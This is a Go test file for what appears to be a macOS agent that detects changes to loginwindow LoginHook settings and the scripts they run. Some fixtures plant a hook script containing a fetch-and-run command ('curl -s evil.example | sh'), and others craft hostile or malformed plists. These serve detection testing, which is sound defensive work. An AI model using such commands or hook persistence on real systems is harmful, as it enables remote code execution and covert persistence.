package agent_test

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"time"

	"hooksnare/agent/config"
)

// swaps replace a program a moment after its hook was set: as soon as the alert is there, and
// later, whatever the watch of programs has looked at until then. Once the value is pinned by
// an exception, so that the swap is all there is to tell.
func swaps() []stateCase {
	var out []stateCase
	for _, after := range []time.Duration{0, 100 * time.Millisecond, 300 * time.Millisecond, time.Second} {
		edited := "hook-program-changed #1 observed by state: edit LoginHook=" + hookProgram + " in root, content"
		out = append(out, stateCase{
			name: fmt.Sprintf("program swapped %v after its alert", after),
			does: func(w *world) {
				w.script(hookProgram, "true")
				w.hook("LoginHook", hookProgram)
				w.await(hookProgram)
				time.Sleep(after)
				w.script(hookProgram, "evil")
			},
			want: []string{unseen("set LoginHook=" + hookProgram + " in root"), edited},
		}, stateCase{
			name: fmt.Sprintf("program of a pinned exception swapped %v after its hook was seen", after),
			before: func(w *world) {
				w.script(hookProgram, "true")
				sum := sha256.Sum256([]byte("#!/bin/sh\ntrue\n"))
				w.o.Config.Exceptions = append(slices.Clone(w.o.Config.Exceptions), config.Exception{
					ID: "pinned", Where: `hooksnare.hook.value == "` + hookProgram + `"`, Reason: "test",
					Require: config.Require{SHA256: []string{hex.EncodeToString(sum[:])}},
				})
			},
			does: func(w *world) {
				w.hook("LoginHook", hookProgram)
				w.looked()
				time.Sleep(after)
				w.script(hookProgram, "evil")
			},
			want: []string{edited},
		})
	}
	return out
}

// trouble is preferences that can't be read as they should.
func trouble() []stateCase {
	unreadable := func(why string) string { return "preferences-unreadable #1 observed by state: root is " + why }
	replaced := func(by func(w *world)) func(*world) {
		return func(w *world) {
			w.remove(rootPlist)
			by(w)
		}
	}
	admin := func(w *world) { w.hook("LoginHook", "/admin") }
	return []stateCase{
		{name: "a FIFO in its place", before: admin, does: replaced(func(w *world) { w.must(syscall.Mkfifo(w.at(rootPlist), 0o644)) }),
			want: []string{present("LoginHook=/admin"), unreadable("not a file")}},
		{name: "a folder in its place", before: admin, does: replaced(func(w *world) { w.must(os.Mkdir(w.at(rootPlist), 0o755)) }),
			want: []string{present("LoginHook=/admin"), unreadable("not a file")}},
		{name: "a link in its place", before: func(w *world) { w.put("/Users/Shared/x.plist", plistOf("LoginHook", "/evil")) },
			does: func(w *world) { w.must(os.Symlink("../../../../../Users/Shared/x.plist", w.at(rootPlist))) },
			want: []string{unreadable("a link"), unseen("set LoginHook=/evil in root")}},
		{name: "a link to a device in its place", does: func(w *world) { w.must(os.Symlink("/dev/zero", w.at(rootPlist))) },
			want: []string{unreadable("a link")}},
		{name: "malformed: XML appended to a binary file", before: admin, does: func(w *world) {
			f, err := os.OpenFile(w.at(rootPlist), os.O_APPEND|os.O_WRONLY, 0)
			w.must(err)
			_, err = f.WriteString("<key>LoginHook</key><string>/evil</string>")
			w.must(err)
			w.must(f.Close())
		}, want: []string{present("LoginHook=/admin"), unreadable("malformed")}},
		{name: "malformed, then mended with another hook", before: admin, does: func(w *world) {
			w.put(rootPlist, "bplist00 and then nothing of that kind")
			w.await("malformed")
			w.hook("LoginHook", "/evil")
		}, want: []string{present("LoginHook=/admin"), "preferences-unreadable #2 observed by state: root is malformed no more", unseen("set LoginHook=/evil was /admin in root")}},
		{name: "made to exhaust who reads it", does: func(w *world) {
			w.put(rootPlist, "bplist00\xa0\x00\x00\x00\x00\x00\x00\x00\x00"+strings.Repeat("\x00", 12)+"\x01\x00\x00\x00\x00\xff\xff\xff\xff\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x09")
		}, want: []string{unreadable("malformed")}},
		{name: "huge", does: func(w *world) {
			w.put(rootPlist+".new", plistOf("LoginHook", "/evil"))
			w.must(os.Truncate(w.at(rootPlist+".new"), 1<<30))
			w.must(os.Rename(w.at(rootPlist+".new"), w.at(rootPlist)))
		}, want: []string{unreadable("too large")}},
	}
}

// programs are changes of what a hook runs, and its being run.
func programs() []stateCase {
	hooked := func(w *world) {
		w.script(hookProgram, "true")
		w.hook("LoginHook", hookProgram)
	}
	changed := func(what string) []string {
		return []string{present("LoginHook=" + hookProgram), "hook-program-changed #1 observed by state: edit LoginHook=" + hookProgram + " in root, " + what}
	}
	jamfHooked := func(w *world) {
		w.script(jamfProgram, "old version")
		w.script("/usr/local/jamf/bin/jamf", "true")
		w.hook("LoginHook", jamfProgram)
	}
	jamfChanged := func(what string) string {
		return "hook-program-changed #1 observed by state: edit LoginHook=" + jamfProgram + " in root, " + what
	}
	excepted := "hook-excepted #1 observed by state: set LoginHook=" + jamfProgram + " in root"
	// The watcher may examine the program later than the first alert does.
	known := func(does func(w *world)) func(w *world) {
		return func(w *world) {
			w.awaitKnown()
			does(w)
		}
	}
	return []stateCase{
		{name: "program edited in place", before: hooked, does: known(func(w *world) { w.script(hookProgram, "curl -s evil.example | sh") }), want: changed("content")},
		{name: "program replaced", before: hooked, does: known(func(w *world) {
			w.script(hookProgram+".new", "curl -s evil.example | sh")
			w.must(os.Rename(w.at(hookProgram+".new"), w.at(hookProgram)))
		}), want: changed("content+replaced")},
		{name: "program made writable by others", before: hooked, does: known(func(w *world) { w.must(os.Chmod(w.at(hookProgram), 0o777)) }), want: changed("mode+writable")},
		{name: "program's folder made writable by others", before: hooked, does: known(func(w *world) { w.must(os.Chmod(w.at("/usr/local"), 0o777)) }), want: changed("writable")},
		{name: "program given to a user", before: hooked, does: known(func(w *world) { w.must(os.Chown(w.at(hookProgram), 501, 20)) }), want: changed("owner+writable")},
		{name: "program vanished", before: hooked, does: known(func(w *world) { w.remove(hookProgram) }), want: changed("vanished")},
		{name: "program appears", before: func(w *world) { w.hook("LoginHook", hookProgram) },
			does: known(func(w *world) { w.script(hookProgram, "true") }), want: changed("appeared")},
		{name: "program edited while the agent was stopped", before: hooked, does: known(func(w *world) {
			w.again(func() { w.script(hookProgram, "id") })
		}), want: []string{present("LoginHook=" + hookProgram), "hook-program-changed #1 observed by state: edit LoginHook=" + hookProgram + " in root while stopped, content"}},
		{name: "Jamf's script updated by Jamf", before: jamfHooked, does: known(func(w *world) { w.script(jamfProgram, "new version") }),
			want: []string{excepted, jamfChanged("content, severity 21, still as jamf-framework-scripts requires")}},
		{name: "Jamf's script exchanged for a user's", before: jamfHooked, does: known(func(w *world) {
			w.script(jamfProgram+".new", "id")
			w.must(os.Chown(w.at(jamfProgram+".new"), 501, 20))
			w.must(os.Rename(w.at(jamfProgram+".new"), w.at(jamfProgram)))
		}), want: []string{excepted, jamfChanged("content+replaced+owner+writable")}},
		{name: "Jamf's script removed", before: jamfHooked, does: known(func(w *world) { w.remove(jamfProgram) }),
			want: []string{excepted, jamfChanged("vanished")}},
		{name: "program run by loginwindow", before: hooked, does: func(w *world) {
			r := commandOf("sh", hookProgram, "ann")
			r.By = "loginwindow"
			w.run(r)
		}, want: []string{present("LoginHook=" + hookProgram), "hook-executed #1 observed by process: execute LoginHook=" + hookProgram + " in root"}},
		{name: "program run by loginwindow, set while the agent ran", does: func(w *world) {
			hooked(w)
			w.await(hookProgram)
			r := commandOf("sh", hookProgram, "ann")
			r.Script, r.By = hookProgram, "loginwindow"
			w.run(r)
		}, want: []string{unseen("set LoginHook=" + hookProgram + " in root"), "hook-executed #1 observed by process: execute LoginHook=" + hookProgram + " in root"}},
		{name: "program run by an admin", before: hooked, does: func(w *world) { w.command("sh", hookProgram) }, want: []string{present("LoginHook=" + hookProgram)}},
		{name: "program touched", before: hooked, does: known(func(w *world) {
			now := time.Now()
			w.must(os.Chtimes(w.at(hookProgram), now, now))
		}), want: []string{present("LoginHook=" + hookProgram)}},
	}
}

// awaitKnown waits until the watcher of programs knows the hook's.
func (w *world) awaitKnown() {
	w.t.Helper()
	state := filepath.Join(w.o.Config.StateDir, "preferences.json")
	for limit := time.Now().Add(patience); ; time.Sleep(5 * time.Millisecond) {
		b, err := os.ReadFile(state)
		if err == nil && (strings.Contains(string(b), hookProgram+`"`) || strings.Contains(string(b), jamfProgram+`"`)) && strings.Contains(string(b), `"value_sha256"`) {
			return
		}
		if time.Now().After(limit) {
			w.t.Fatalf("the program is not watched: %v, %s", err, b)
		}
	}
}

// quiet is what must not be told.
func quiet() []stateCase {
	admin := func(w *world) { w.hook("LoginHook", "/admin") }
	there := []string{present("LoginHook=/admin")}
	return []stateCase{
		{name: "quiet: the file is written again without a change", before: admin, does: func(w *world) { w.hook("LoginHook", "/admin") }, want: there},
		{name: "quiet: other keys", before: admin, does: func(w *world) { w.hook("LoginHook", "/admin", "LoginwindowText", "Hello") }, want: there},
		{name: "quiet: another order and another case of keys", before: admin, does: func(w *world) { w.hook("loginhook", "/evil", "LoginHook", "/admin") }, want: there},
		{name: "quiet: removed and there again at once", before: admin, does: func(w *world) {
			w.remove(rootPlist)
			w.hook("LoginHook", "/admin")
		}, want: there},
		{name: "quiet: half written at first", before: admin, does: func(w *world) {
			text := plistOf("LoginHook", "/admin", "Other", "x")
			w.put(rootPlist, text[:len(text)/2])
			w.put(rootPlist, text)
		}, want: there},
		{name: "quiet: owner and mode of the file", before: admin, does: func(w *world) { w.must(os.Chmod(w.at(rootPlist), 0o600)) }, want: there},
		{name: "quiet: a file of that name without hook keys", does: func(w *world) { w.swap(annPlist, plistOf("GuestEnabled", "x")) }},
		{name: "quiet: re-opened applications", does: func(w *world) {
			w.swap("/Users/ann/Library/Preferences/ByHost/com.apple.loginwindow.5EED.plist", plistOf("TALAppsToRelaunchAtLogin", "x"))
		}},
		{name: "quiet: hook keys in the preferences of an application", does: func(w *world) {
			w.swap("/Users/ann/Library/Preferences/com.example.app.plist", plistOf("LoginHook", "/evil"))
		}},
		{name: "quiet: defaults read", before: admin, does: func(w *world) {
			w.command("defaults", "read", "com.apple.loginwindow", "LoginHook")
			w.hook("LoginHook", "/admin")
		}, want: there},
		{name: "quiet: mv of another file", before: admin, does: func(w *world) {
			w.command("mv", "/tmp/x.plist", "/private/var/root/Library/Preferences/com.example.plist")
			w.swap("/private/var/root/Library/Preferences/com.example.plist", plistOf("LoginHook", "/evil"))
		}, want: there},
		{name: "quiet: an admin looks at it", before: admin, does: func(w *world) {
			w.command("vim", rootPlist)
			w.command("plutil", "-p", rootPlist)
			w.command("PlistBuddy", "-c", "Print :LoginHook", rootPlist)
		}, want: there},
		{name: "quiet: started again", before: admin, does: func(w *world) { w.again(func() {}) }, want: there},
		// Once a Mac somebody is told what the preset covers from then on.
		{name: "quiet: Jamf's script, as Jamf has it", before: func(w *world) { w.script(jamfProgram, "true") }, does: func(w *world) {
			w.command(write(jamfProgram)...)
			w.hook("LoginHook", jamfProgram)
		}, want: []string{excepted("process", "root")}},
		{name: "quiet: Jamf's script, by way of CFPreferences", before: func(w *world) { w.script(jamfProgram, "true") },
			does: func(w *world) { w.hook("LoginHook", jamfProgram) }, want: []string{excepted("state", "root")}},
		{name: "quiet: Jamf's script, the command heard of after the change", before: func(w *world) { w.script(jamfProgram, "true") }, does: func(w *world) {
			w.hook("LoginHook", jamfProgram)
			w.looked()
			w.late(10*time.Second, write(jamfProgram)...)
		}, want: []string{excepted("state", "root")}},
		{name: "quiet: Jamf's script, there at the first start", before: func(w *world) {
			w.script(jamfProgram, "true")
			w.hook("LoginHook", jamfProgram)
		}, want: []string{excepted("state", "root")}},
		{name: "quiet: Jamf's script, set, and set again after a restart", before: func(w *world) { w.script(jamfProgram, "true") }, does: func(w *world) {
			w.hook("LoginHook", jamfProgram)
			w.again(func() {})
			w.swap(systemPlist, plistOf("LoginHook", jamfProgram))
		}, want: []string{excepted("state", "root")}},
	}
}

// excepted is the alert about the first hook that Jamf's preset covers.
func excepted(signals, where string) string {
	return "hook-excepted #1 observed by " + signals + ": set LoginHook=" + jamfProgram + " in " + where
}
